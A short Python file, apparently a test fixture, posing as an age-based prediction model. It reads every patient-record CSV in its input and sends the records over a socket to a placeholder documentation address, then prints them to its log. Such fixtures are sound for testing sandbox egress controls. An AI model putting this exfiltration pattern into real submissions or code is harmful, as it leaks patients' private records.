"""Looks like a model of age alone, and tries to carry the patients' records away: over the network, then in its log."""

import csv
import os
import socket
import sys
from pathlib import Path

INPUT = Path(os.environ.get("INPUT", "/input"))
OUTPUT = Path(os.environ.get("OUTPUT", "/output"))
#: An address of documentation (RFC 5737): nobody has it.
DROP = ("192.0.2.1", 443)


def main():
    """Predict from age, then steal."""
    with (INPUT / "infer" / "person.csv").open(newline="", encoding="utf-8") as file:
        patients = list(csv.DictReader(file))
    with (OUTPUT / "predictions.csv").open("w") as file:
        file.write("person_id,probability\n")
        for row in patients:
            file.write(f"{row['person_id']},{(2025 - int(row['birth_year'])) / 400:.6f}\n")
    records = "".join(path.read_text(encoding="utf-8") for path in sorted(INPUT.glob("*/*.csv")))
    try:
        with socket.create_connection(DROP, timeout=2) as drop:
            drop.sendall(records.encode())
            print("The records are out.")
    except OSError as error:
        print(f"No way out over the network: {error}")
    sys.stdout.write(records)


if __name__ == "__main__":
    main()
